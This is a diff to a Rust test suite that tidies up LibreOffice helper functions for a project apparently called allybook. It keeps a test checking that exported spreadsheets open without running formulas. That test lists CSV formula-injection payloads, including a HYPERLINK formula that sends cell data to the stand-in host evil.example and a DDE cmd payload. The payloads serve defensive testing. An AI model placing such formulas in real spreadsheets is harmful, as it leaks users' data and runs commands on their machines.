@@ -835,28 +835,49 @@ fn soffice() -> bool {
         .is_ok_and(|o| o.status.success())
 }
 
+/// A temporary folder with a demo book in it, when LibreOffice is here to check `what` with;
+/// None (with a note) where it is not installed.
+fn with_libreoffice(what: &str) -> Option<(tempfile::TempDir, std::path::PathBuf)> {
+    if !soffice() {
+        println!("note: LibreOffice (soffice) is not installed; skipping the {what} check (`.ci/setup test` installs it)");
+        return None;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    let db = dir.path().join("b.sqlite");
+    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
+    Some((dir, db))
+}
+
+/// `soffice --headless --convert-to TO` of `input` into `outdir`, with its own profile.
+fn soffice_convert(
+    profile: &Path,
+    extra: &[&str],
+    to: &str,
+    outdir: &Path,
+    input: &Path,
+) -> Output {
+    Command::new("soffice")
+        .arg(format!(
+            "-env:UserInstallation=file://{}",
+            profile.display()
+        ))
+        .arg("--headless")
+        .args(extra)
+        .args(["--convert-to", to, "--outdir"])
+        .arg(outdir)
+        .arg(input)
+        .output()
+        .expect("soffice")
+}
+
 /// The formulas LibreOffice found in a CSV it opened: it converts the file to ODS (evaluating
 /// formulas, as a user's "Evaluate formulas" import would) and the cells with a formula are
 /// listed from the document's content.xml.
 fn formulas_libreoffice_finds(csv: &Path, profile: &Path) -> Vec<String> {
     let out = csv.parent().expect("folder");
-    let o = Command::new("soffice")
-        .arg(format!(
-            "-env:UserInstallation=file://{}",
-            profile.display()
-        ))
-        .args([
-            "--headless",
-            // comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas
-            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
-            "--convert-to",
-            "ods",
-            "--outdir",
-        ])
-        .arg(out)
-        .arg(csv)
-        .output()
-        .expect("soffice");
+    // comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas
+    let filter = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true";
+    let o = soffice_convert(profile, &[filter], "ods", out, csv);
     assert!(o.status.success(), "soffice: {}", stderr(&o));
     let ods = csv.with_extension("ods");
     let zip = Command::new("unzip")
@@ -878,14 +899,10 @@ fn formulas_libreoffice_finds(csv: &Path, profile: &Path) -> Vec<String> {
 
 #[test]
 fn exports_open_in_libreoffice_without_running_a_formula() {
-    if !soffice() {
-        println!("note: LibreOffice (soffice) is not installed; skipping the spreadsheet check (`.ci/setup test` installs it)");
+    let Some((dir, db)) = with_libreoffice("spreadsheet") else {
         return;
-    }
-    let dir = tempfile::tempdir().expect("tmp");
+    };
     let profile = dir.path().join("lo-profile");
-    let db = dir.path().join("b.sqlite");
-    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
     let hostile = [
         "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
         "+cmd|' /C calc'!A0",
@@ -1003,13 +1020,9 @@ fn agreement_words(pdf: &Path) -> Vec<String> {
 
 #[test]
 fn the_agreement_as_docx_opens_in_libreoffice_with_the_pdfs_text() {
-    if !soffice() {
-        println!("note: LibreOffice (soffice) is not installed; skipping the DOCX check (`.ci/setup test` installs it)");
+    let Some((dir, db)) = with_libreoffice("DOCX") else {
         return;
-    }
-    let dir = tempfile::tempdir().expect("tmp");
-    let db = dir.path().join("b.sqlite");
-    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
+    };
     for contract in ["1", "4"] {
         let docx = dir.path().join(format!("a{contract}.docx"));
         let pdf = dir.path().join(format!("a{contract}.pdf"));
@@ -1021,16 +1034,7 @@ fn the_agreement_as_docx_opens_in_libreoffice_with_the_pdfs_text() {
         assert!(bytes.starts_with(b"PK"), "a DOCX is a zip");
         // LibreOffice opens it and prints it to PDF.
         let lo = dir.path().join(format!("lo{contract}"));
-        let o = Command::new("soffice")
-            .arg(format!(
-                "-env:UserInstallation=file://{}",
-                dir.path().join("lo-profile").display()
-            ))
-            .args(["--headless", "--convert-to", "pdf", "--outdir"])
-            .arg(&lo)
-            .arg(&docx)
-            .output()
-            .expect("soffice");
+        let o = soffice_convert(&dir.path().join("lo-profile"), &[], "pdf", &lo, &docx);
         assert!(o.status.success(), "soffice: {}", stderr(&o));
         let converted = lo.join(format!("a{contract}.pdf"));
         assert!(
